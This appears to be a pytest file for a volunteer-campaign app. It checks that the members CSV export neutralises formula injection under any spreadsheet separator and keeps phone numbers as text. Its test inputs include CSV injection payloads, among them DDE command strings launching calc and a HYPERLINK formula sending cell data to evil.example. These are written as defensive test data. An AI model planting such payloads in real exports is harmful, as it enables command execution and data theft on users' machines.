"""The members' CSV is text in every spreadsheet: no cell, nor any piece of one a spreadsheet
splits off at a separator of its own choosing, starts a formula; phone numbers stay text."""

import csv
import io

import pytest

from campaign.extensions import db
from campaign.groups import service
from campaign.groups.board import spreadsheet_text
from tests.factories import volunteer

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

HOSTILE_NAMES = [
    "a;=cmd|' /C calc'!A0",
    "a,=1+1",
    "a|=1+1",
    "b; -2+3",
    '=HYPERLINK("http://evil.example/?"&A1, "x")',
    '"; =1+1',
    '"",=1+1',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\uff1d1+1",
    "a ; @cmd",
]

#: Separators a spreadsheet may be set to.
SEPARATORS = {"comma": ",", "semicolon": ";", "tab": "\t", "pipe": "|"}


@pytest.fixture
def export(client, signed_in, make_event):
    """The CSV of an event whose volunteers chose hostile names, group name and contacts."""
    event = make_event()
    leader = service.start_group(event, volunteer(display_name=HOSTILE_NAMES[0]))
    db.session.commit()
    service.rename_group(leader.membership, "x;=1+1")
    db.session.commit()
    group = leader.membership.group
    for name in HOSTILE_NAMES[1:6]:
        service.join_group(group, volunteer(display_name=name))
        db.session.commit()
    second = service.start_group(event, volunteer(display_name=HOSTILE_NAMES[6]))
    db.session.commit()
    for name in HOSTILE_NAMES[7:]:
        service.join_group(second.membership.group, volunteer(display_name=name))
        db.session.commit()
    service.join_group(
        second.membership.group, volunteer(display_name="Mail", contact="=cmd|-calc@example.org")
    )
    db.session.commit()
    signed_in(event.campaign.admins[0])
    response = client.get(f"/organise/events/{event.ref}/signups.csv")
    assert response.status_code == 200
    return response.get_data(as_text=True).lstrip("\ufeff")


def starts_formula(cell: str) -> bool:
    return cell.lstrip(' "').startswith(FORMULA_STARTS)


def test_no_cell_starts_a_formula_whatever_the_separator(export):
    for separator in SEPARATORS.values():
        # As a reader that knows CSV quoting, set to this separator...
        for row in csv.reader(io.StringIO(export), delimiter=separator):
            for cell in row:
                assert not starts_formula(cell), (separator, cell, row)
        # ...and as one that splits each line and ignores quotes altogether.
        for line in export.splitlines():
            for cell in line.split(separator):
                assert not starts_formula(cell), (separator, cell, line)


def test_the_comma_dialect_reads_back_every_value_as_text(export):
    rows = list(csv.DictReader(io.StringIO(export)))
    names = {row["name"] for row in rows}
    assert "a;'=cmd|' /C calc'!A0" in names
    assert '\'=HYPERLINK("http://evil.example/?"&A1, "x")' in names
    assert {"'+1+1", "'-1+1", "'@SUM(1+1)", "'\uff1d1+1", "a ;' @cmd"} <= names
    assert {row["group_name"] for row in rows} == {"x;'=1+1", ""}
    contacts = [row["contact"] for row in rows]
    assert "'=cmd|'-calc@example.org" in contacts
    # Phone numbers: a spreadsheet shows a cell starting with ' as text, not as 1.2016E+10.
    phones = [contact for contact in contacts if "@" not in contact]
    assert len(phones) == len(HOSTILE_NAMES)
    assert all(phone.startswith("'+1201555") and phone[2:].isdigit() for phone in phones)
    # OWASP: every cell in double quotes as well.
    for line in export.splitlines():
        assert line.startswith('"') and line.endswith('"'), line


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("Ali", "Ali"),
        ("Ali; Reza", "Ali; Reza"),
        ("2026-12-13T12:00:00+00:00", "2026-12-13T12:00:00+00:00"),
        ("\tx", "'\tx"),
        ("x\t=1", "x\t'=1"),
        ("x\n=1", "x\n'=1"),
        (" =1", "' =1"),
        ("", ""),
    ],
)
def test_spreadsheet_text(value, shown):
    assert spreadsheet_text(value) == shown
